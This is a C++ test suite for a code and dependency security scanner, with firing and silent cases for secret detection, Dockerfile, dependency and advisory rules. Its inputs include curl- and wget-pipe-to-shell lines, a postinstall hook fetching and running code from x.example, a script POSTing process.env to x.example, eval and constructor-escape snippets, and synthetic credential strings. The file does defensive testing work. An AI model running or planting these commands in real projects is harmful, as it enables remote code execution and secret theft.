// Dependencies, containers, start commands, secrets: a table of firing and silent texts each.
#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>

#include "base/clock.h"
#include "base/crypto/crypto.h"
#include "builder/scan/advisories.h"
#include "builder/scan/command_function.h"
#include "builder/scan/config_rules.h"
#include "builder/scan/dependency_rules.h"
#include "builder/scan/dockerfile_rules.h"
#include "builder/scan/packages.h"
#include "builder/scan/secrets.h"
#include "builder/test_tree.h"

namespace sigil::scan {
namespace {

std::vector<std::string> rules_of(const std::vector<Issue>& issues) {
  std::vector<std::string> rules;
  for (const auto& issue : issues) rules.push_back(issue.rule);
  return rules;
}

bool fires(const std::vector<Issue>& issues, const std::string& rule) {
  return std::ranges::count(rules_of(issues), rule) > 0;
}

std::string made_up(const std::string& prefix, std::size_t length) {
  std::string text = prefix;
  // Random-looking, and no key of anybody.
  static const std::string kLetters = "q8Zr2KxW7mTn4VbY6cJd9LfHs3GpAeU5";
  for (std::size_t i = 0; text.size() < length; ++i) text += kLetters[(i * 7 + i / 32) % 32];
  return text;
}

TEST(Secrets, AreFoundByTheirForms) {
  const std::vector<std::string> firing = {
      "const K = process.env.K || '" + made_up("ghp_", 40) + "';",
      "key = \"" + made_up("sk-ant-", 60) + "\"",
      "aws = 'AKIA"
      "Q7ZP3MKWX2RTN5VB'",
      "SLACK=" + made_up("xoxb-", 50),
      "url = 'postgres://app:" + made_up("", 16) + "@db.corp.net:5432/x'",
      "api_key: \"" + made_up("", 32) + "\"",
      "os.environ.get('API_TOKEN', '" + made_up("", 24) + "')",
      "const WEATHER_KEY = '" + made_up("", 32) + "';",
      "headers: {Authorization: 'Bearer " + made_up("", 40) + "'}",
      "fetch('https://api.weather.io/v1?q=x&appid=" + made_up("", 32) + "')",
      "PASSWORD = 'Pa$$w0rd!2024#Kx9'",
      "-----BEGIN RSA PRIVATE KEY-----\n" + made_up("MII", 64)};
  for (const auto& text : firing)
    EXPECT_EQ(find_secrets(text, SecretFile::code).size(), 1U) << text.substr(0, 30);
}

TEST(Secrets, PlaceholdersAndWordsAreNone) {
  for (const auto* text :
       {"const K = process.env.K || 'your-api-key'", "password: \"changeme-please-now\"",
        "token = \"<your token here>\"", "api_key = \"${API_KEY}\"",
        "secret: 'xxxxxxxxxxxxxxxxxxxx'", "const tokenName = 'access_token_cookie'",
        "url = 'postgres://user:password@localhost:5432/db'",
        "url = 'postgresql://postgres:postgres@db:5432/x'",
        "if (line === '-----BEGIN PRIVATE KEY-----') return;", "password: \"Passwort eingeben\"",
        "apiKey: process.env.API_KEY", "authorizationUrl: 'https://a.example/authorize'",
        "key = 'AKIAIOSFODNN7EXAMPLE'", "environmentKey: \"environment-key-123abc\"",
        "N8N_WEBHOOK_PASSWORD: 'N8N_WEBHOOK_PASSWORD'",
        "API_KEY_CONTEXT = b\"some-mcp/api-key-principal/v1:\"",
        "\"workspace_token\": \"wrkspc_abcde12345\""})
    EXPECT_TRUE(find_secrets(text, SecretFile::code).empty()) << text;
}

TEST(Secrets, ConfigurationNeedsNoQuotes) {
  const auto hits = [](const std::string& text) {
    return find_secrets(text, SecretFile::configuration).size();
  };
  EXPECT_EQ(hits("exampleConfig:\n  apiKey: " + made_up("", 32) + "\n"), 1U);
  EXPECT_EQ(hits("export API_TOKEN=" + made_up("", 32) + "\n"), 1U);
  for (const auto* text : {"apiKey: ${API_KEY}", "token: {type: string, title: Token}",
                           "password_file: /run/secrets/password_file_name1", "secret: true",
                           "api_key_description: some-words-with-dashes-in-them"})
    EXPECT_EQ(hits(text), 0U) << text;
}

TEST(Secrets, NeverShowTheValue) {
  const auto value = made_up("ghp_", 40);
  const auto hits = find_secrets("x\n  t = '" + value + "'", SecretFile::code);
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_EQ(hits[0].line, 2);
  EXPECT_EQ(masked(hits[0]), "\"ghp_…\" (40 characters)");
}

TEST(Secrets, EnvironmentFiles) {
  EXPECT_TRUE(is_environment_file("a/.env"));
  EXPECT_FALSE(is_environment_file(".env.example"));
  EXPECT_EQ(find_secrets("A=1\nDB_PASSWORD=" + made_up("", 20), SecretFile::environment).size(),
            1U);
  EXPECT_TRUE(find_secrets("DB_PASSWORD=\nAPI_KEY=your-key", SecretFile::environment).empty());
}

TEST(Dockerfiles, Fire) {
  const auto fire = [](const std::string& text) {
    return dockerfile_issues("Dockerfile", text, true);
  };
  EXPECT_TRUE(fires(fire("FROM node:22\nCMD node a.js"), "SIG-DOCK-001"));
  EXPECT_TRUE(fires(fire("FROM a\nUSER root"), "SIG-DOCK-001"));
  EXPECT_FALSE(fires(fire("FROM a\nUSER 10001"), "SIG-DOCK-001"));
  EXPECT_FALSE(fires(fire("FROM gcr.io/distroless/nodejs22:nonroot"), "SIG-DOCK-001"));
  EXPECT_FALSE(fires(fire("FROM a AS b\nUSER app\nFROM b"), "SIG-DOCK-001"));
  EXPECT_TRUE(fires(fire("FROM a\nRUN curl -sL https://x/i.sh \\\n  | sh"), "SIG-DOCK-002"));
  EXPECT_TRUE(
      fires(fire("FROM a\nRUN <<EOF\nwget -qO- https://x | bash\nEOF\nUSER 1"), "SIG-DOCK-002"));
  EXPECT_TRUE(fires(fire("FROM a\nADD https://x/t.tgz /t"), "SIG-DOCK-002"));
  EXPECT_FALSE(fires(fire("FROM a\nADD --checksum=sha256:ab https://x/t.tgz /t"), "SIG-DOCK-002"));
  EXPECT_FALSE(
      fires(fire("FROM a\nRUN curl -o t https://x/t && echo h t | sha256sum -c && tar x t"),
            "SIG-DOCK-002"));
  EXPECT_TRUE(fires(fire("FROM a\nENV API_TOKEN=" + made_up("", 24)), "SIG-DOCK-003"));
  EXPECT_FALSE(fires(fire("FROM a\nENV API_TOKEN=\"\"\nARG KEY\nENV X_KEY=$KEY"), "SIG-DOCK-003"));
  EXPECT_TRUE(fires(fire("FROM a\nCOPY .env /app/"), "SIG-DOCK-003"));
  EXPECT_FALSE(fires(fire("FROM a\nCOPY .env.example .npmrc /app/"), "SIG-DOCK-003"));
  EXPECT_TRUE(fires(fire("FROM node:latest"), "SIG-DOCK-004"));
  EXPECT_FALSE(fires(fire("FROM node@sha256:abc\nFROM scratch"), "SIG-DOCK-004"));
  EXPECT_TRUE(fires(fire("FROM a\nENV NODE_TLS_REJECT_UNAUTHORIZED=0"), "SIG-NET-002"));
}

TEST(Compose, WhatItTakesFromTheHost) {
  const auto own = compose_issues("docker-compose.yml",
                                  "services:\n  a:\n    build: .\n    volumes:\n      - "
                                  "/var/run/docker.sock:/var/run/docker.sock\n");
  ASSERT_EQ(own.size(), 1U);
  EXPECT_EQ(own[0].severity, Severity::block);
  const auto other = compose_issues("compose.yaml", "services:\n  a:\n    privileged: true\n");
  ASSERT_EQ(other.size(), 1U);
  EXPECT_EQ(other[0].severity, Severity::warning);
}

TEST(CommandFunction, WhatDoesMoreThanComputeFires) {
  for (const auto* text :
       {"(c) => ({command: 'sh', args: ['-c', 'run ' + c.x]})",
        "(config) => { const fs = require('fs'); return {command: 'node', args: []}; }",
        "config => { fetch('https://x.example/' + config.key); return {command: 'node'} }",
        "(c) => ({command: 'node', args: ['-e', c.code]})", "(c) => { while (true) {} }",
        "(c) => { for (;;) {} }", "(c) => ({command: 'sudo', args: ['node', 'a.js']})",
        "(c) => eval(c.x)", "(c) => c.constructor.constructor('return process')()",
        "(c) => ({command: 'node', args: [process.cwd()]})",
        "function f(config) { return import('fs') }"})
    EXPECT_FALSE(command_function_faults(text).empty()) << text;
}

TEST(CommandFunction, EveryConstructOfRealFilesIsSilent) {
  for (const auto* text :
       {"(c) => ({command: 'node', args: ['a.js', c.x]})",
        "(config) => ({ command: 'node', args: ['dist/index.js'], env: { K: config.key || '' } });",
        "config => { const args = ['a.js']; if (config.d) { args.push('--d', String(config.d)); } "
        "return { command: 'node', args }; }",
        "function start(config) { return Object.assign({command: 'uvx', args: ['x']}, {}); }",
        "({config}) => ({command: 'python', args: ['-m', 'server'], env: {...(config.a ? {A: "
        "config.a} : {})}})",
        "// a comment\n(config) => ({command: 'npx', args: ['-y', 'pkg'], env: {E: "
        "process.env.E ?? ''}})",
        "(c) => { for (const x of c.list) { } return {command: 'node', args: c.list.filter(a => "
        "a).map(x => `--p=${x}`)} }"})
    EXPECT_TRUE(command_function_faults(text).empty())
        << text << ": " << command_function_faults(text).front().what;
}

TEST(Dependencies, NodePackages) {
  const Policy policy;
  DependencyInput input{[](const std::string&) { return std::string(); }, policy, true, false};
  const auto issues = [&](const std::string& text) {
    return node_package_issues("package.json", text, input);
  };
  EXPECT_TRUE(fires(issues(R"({"dependencies":{"a":"latest"}})"), "SIG-DEP-003"));
  EXPECT_FALSE(fires(issues(R"({"dependencies":{"a":"1.2.3","b":"^2"}})"), "SIG-DEP-003"));
  EXPECT_TRUE(fires(issues(R"({"dependencies":{"expresss":"1.2.3"}})"), "SIG-DEP-004"));
  EXPECT_FALSE(
      fires(issues(R"({"dependencies":{"express":"1.2.3","preact":"1.0.0"}})"), "SIG-DEP-004"));
  EXPECT_TRUE(
      fires(issues(R"({"dependencies":{"a":"git+https://g.example/a.git"}})"), "SIG-DEP-006"));
  EXPECT_FALSE(
      fires(issues(R"({"dependencies":{"a":"workspace:*","b":"file:../b"}})"), "SIG-DEP-006"));
  const auto evil = issues(R"({"scripts":{"postinstall":"curl -s http://x.example/i|sh"}})");
  ASSERT_EQ(evil.size(), 1U);
  EXPECT_EQ(evil[0].severity, Severity::block);
  for (const auto* harmless :
       {"husky", "husky install", "tsc -p .", "npm run build", "patch-package", "node-gyp-build",
        "prisma generate", "husky || true"})
    EXPECT_TRUE(issues(R"({"scripts":{"postinstall":")" + std::string(harmless) + "\"}}").empty())
        << harmless;
  EXPECT_TRUE(issues(R"({"scripts":{"prepare":"tsc -p ."}})").empty());
  input.has_lock = false;
  EXPECT_TRUE(fires(issues(R"({"dependencies":{"a":"^1.2.3"}})"), "SIG-DEP-003"));
}

TEST(Dependencies, InstallScriptsAreReadWhereTheyPoint) {
  const Policy policy;
  DependencyInput input{[](const std::string& path) {
                          return path == "scripts/i.js"
                                     ? "fetch('https://x.example', {method: 'POST', body: "
                                       "JSON.stringify(process.env)})"
                                     : "";
                        },
                        policy, true, false};
  const auto issues = node_package_issues(
      "package.json", R"({"scripts":{"postinstall":"node scripts/i.js"}})", input);
  ASSERT_EQ(issues.size(), 1U);
  EXPECT_EQ(issues[0].severity, Severity::block);
}

TEST(Dependencies, PythonRequirements) {
  const Policy policy;
  const DependencyInput input{[](const std::string&) { return std::string(); }, policy, false,
                              false};
  const auto loose = python_requirement_issues("requirements.txt", "requests\nflask>=2\n", input);
  EXPECT_TRUE(fires(loose, "SIG-DEP-003"));
  const auto exact = python_requirement_issues("requirements.txt", "requests==2.31.0\n", input);
  EXPECT_TRUE(exact.empty());
  EXPECT_TRUE(fires(python_requirement_issues("requirements.txt", "requestss==1.0\n", input),
                    "SIG-DEP-004"));
  EXPECT_TRUE(fires(python_requirement_issues("requirements.txt",
                                              "--extra-index-url http://pypi.corp/simple\n", input),
                    "SIG-DEP-006"));
  EXPECT_TRUE(
      fires(pyproject_issues("pyproject.toml",
                             "[project]\nname='x'\ndependencies = [\n  \"httpx\",\n]\n", input),
            "SIG-DEP-003"));
}

TEST(LockFiles, APackageFromAnotherHostThanTheOthersStandsOut) {
  const auto lock_of = [](const std::vector<std::string>& addresses) {
    LockFile lock;
    for (const auto& address : addresses) {
      Package package;
      package.ecosystem = Ecosystem::npm;
      package.name = "p" + std::to_string(lock.packages.size());
      package.resolved = address;
      package.has_integrity = true;
      lock.packages.push_back(package);
    }
    return lock;
  };
  const std::string own = "https://packages.corp/npm/a/-/a-1.0.0.tgz";
  Policy policy;
  const auto fires_on = [&](const std::vector<std::string>& addresses) {
    return fires(lock_issues("yarn.lock", lock_of(addresses), policy), "SIG-DEP-006");
  };
  EXPECT_FALSE(fires_on({own, "https://packages.corp/npm/@b/c/-/c-2.0.0.tgz#0a1b"}));
  EXPECT_TRUE(fires_on({own, own, "https://elsewhere.example/a/-/a-1.0.0.tgz"}));
  EXPECT_TRUE(fires_on({own, "https://files.example/a.tar.gz"})) << "no registry's archive";
  EXPECT_TRUE(fires_on({"https://files.example/a.tgz"})) << "alone it is no registry either";
  EXPECT_TRUE(fires_on({"http://packages.corp/npm/a/-/a-1.0.0.tgz"})) << "unencrypted";
  policy.trusted_registries = {"elsewhere.example"};
  EXPECT_FALSE(fires_on({own, own, "https://elsewhere.example/a/-/a-1.0.0.tgz"}));
}

TEST(LockFiles, OfEveryManager) {
  const auto one = [](const std::string& path, const std::string& text) {
    const auto lock = read_lock_file(path, text);
    return lock.packages.empty() ? std::string() : purl_of(lock.packages.front());
  };
  EXPECT_EQ(
      one("package-lock.json",
          R"({"packages":{"":{},"node_modules/@a/b":{"version":"1.2.3","resolved":"https://packages.corp/@a/b/-/b-1.2.3.tgz","integrity":"sha512-x"}}})"),
      "pkg:npm/%40a/b@1.2.3");
  EXPECT_EQ(one("package-lock.json", R"({"dependencies":{"a":{"version":"1.0.0"}}})"),
            "pkg:npm/a@1.0.0");
  EXPECT_EQ(one("pnpm-lock.yaml",
                "packages:\n\n  '@a/b@1.2.3(c@1.0.0)':\n    resolution: {integrity: sha512-x}\n"),
            "pkg:npm/%40a/b@1.2.3");
  EXPECT_EQ(one("pnpm-lock.yaml", "packages:\n  /a/1.0.0:\n    dev: true\n"), "pkg:npm/a@1.0.0");
  EXPECT_EQ(one("yarn.lock", "\"@a/b@^1.0.0\", \"@a/b@^1.2.0\":\n  version \"1.2.3\"\n"),
            "pkg:npm/%40a/b@1.2.3");
  EXPECT_EQ(
      one("yarn.lock", "\"a@npm:^1.0.0\":\n  version: 1.2.3\n  resolution: \"a@npm:1.2.3\"\n"),
      "pkg:npm/a@1.2.3");
  EXPECT_EQ(one("bun.lock",
                "{\n  \"packages\": {\n    \"a\": [\"a@1.2.3\", \"\", {}, \"sha512-x\"],\n  }\n}"),
            "pkg:npm/a@1.2.3");
  EXPECT_EQ(one("uv.lock",
                "[[package]]\nname = \"My_Pkg\"\nversion = \"1.0\"\nsource = { registry = "
                "\"https://packages.corp/simple\" }\n"),
            "pkg:pypi/my-pkg@1.0");
  EXPECT_EQ(one("poetry.lock", "[[package]]\nname = \"a\"\nversion = \"1.0\"\n"), "pkg:pypi/a@1.0");
  EXPECT_EQ(one("Cargo.lock", "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n"),
            "pkg:cargo/a@1.0.0");
  EXPECT_EQ(one("requirements.txt", "a[x]==1.0 ; python_version > '3'\n"), "pkg:pypi/a@1.0");
  EXPECT_EQ(one("Pipfile.lock", R"({"default":{"a":{"version":"==1.0"}}})"), "pkg:pypi/a@1.0");
  EXPECT_EQ(one("go.sum", "github.com/a/b v1.2.3 h1:x=\ngithub.com/a/b v1.2.3/go.mod h1:y=\n"),
            "pkg:golang/github.com/a/b@v1.2.3");
}

TEST(Versions, KeepTheirEcosystemsOrder) {
  const auto order = [](Ecosystem ecosystem, const char* a, const char* b) {
    return compare_versions(ecosystem, a, b) < 0;
  };
  EXPECT_TRUE(order(Ecosystem::npm, "1.2.9", "1.2.10"));
  EXPECT_TRUE(order(Ecosystem::npm, "1.0.0-beta.2", "1.0.0-beta.11"));
  EXPECT_TRUE(order(Ecosystem::npm, "1.0.0-rc.1", "1.0.0"));
  EXPECT_TRUE(order(Ecosystem::go, "v1.2.3", "1.2.4"));
  EXPECT_TRUE(order(Ecosystem::pypi, "1.0.dev1", "1.0a1"));
  EXPECT_TRUE(order(Ecosystem::pypi, "1.0rc1", "1.0"));
  EXPECT_TRUE(order(Ecosystem::pypi, "1.0", "1.0.post1"));
  EXPECT_TRUE(order(Ecosystem::pypi, "1!0.1", "2!0.0"));
  EXPECT_EQ(compare_versions(Ecosystem::pypi, "1.0.0", "1.0"), 0);
}

TEST(Advisories, AreImportedAndFound) {
  const builder::TestTree tree;
  tree.write(
      "one.json",
      R"({"id":"GHSA-1","aliases":["CVE-1"],"modified":"2026-11-20T00:00:00Z","summary":"Bad",
             "database_specific":{"severity":"HIGH"},"affected":[{"package":{"ecosystem":"npm","name":"a"},
             "ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.2.4"}]}]}]})");
  const auto archive = tree.read("one.json");
  EXPECT_FALSE(import_advisories(tree.at("one.json"), std::string(64, '0'), Ecosystem::npm,
                                 tree.at("db"), 0));
  const auto source = import_advisories(tree.at("one.json"), crypto::sha256_hex(archive),
                                        Ecosystem::npm, tree.at("db"), 0);
  ASSERT_TRUE(source) << source.error().message;
  const auto store = AdvisoryStore::open(tree.at("db"));
  ASSERT_TRUE(store);
  Package package;
  package.name = "a";
  package.version = "1.2.3";
  package.file = "package-lock.json";
  const std::int64_t now = 1'795'521'600;
  auto issues = advisory_issues({package}, *store, {}, now);
  ASSERT_EQ(issues.size(), 1U);
  EXPECT_EQ(issues[0].severity, Severity::error);
  EXPECT_EQ(issues[0].fixes[0].text, "Upgrade to 1.2.4 or later.");
  package.version = "1.2.4";
  EXPECT_TRUE(advisory_issues({package}, *store, {}, now).empty());
  EXPECT_TRUE(fires(advisory_issues({package}, *store, {}, now + 40 * 86'400), "SIG-DEP-007"));
}

TEST(Advisories, MaliciousPackagesBlock) {
  const auto found = read_osv_record(
      R"({"id":"MAL-2026-1","affected":[{"package":{"ecosystem":"PyPI","name":"Evil_Pkg"},"versions":["1.0"]}]})",
      Ecosystem::pypi);
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].first, "evil-pkg");
  EXPECT_TRUE(found[0].second.is_malicious);
  EXPECT_TRUE(is_affected(found[0].second, Ecosystem::pypi, "1.0").is_affected);
  EXPECT_TRUE(read_osv_record(R"({"id":"X","withdrawn":"2026-01-01T00:00:00Z","affected":[]})",
                              Ecosystem::pypi)
                  .empty());
}

TEST(Configuration, ClearTextAddresses) {
  const auto issues = [](const std::string& text) {
    return configuration_issues("config.yaml", text, {});
  };
  EXPECT_TRUE(fires(issues("api_url: http://api.vendor.io/v1"), "SIG-NET-001"));
  EXPECT_TRUE(fires(issues("issuer: \"http://login.vendor.io\""), "SIG-OAUTH-006"));
  EXPECT_TRUE(
      fires(issues("\"start\": \"NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js\""), "SIG-NET-002"));
  for (const auto* text : {"url: http://localhost:3000", "base_url: http://db.svc:80",
                           "homepage_url: http://vendor.io", "url: http://192.168.1.4",
                           "schema_uri: http://www.w3.org/2001/XMLSchema", "# url: http://a.io",
                           "url: https://api.vendor.io"})
    EXPECT_TRUE(issues(text).empty()) << text;
}

}  // namespace
}  // namespace sigil::scan
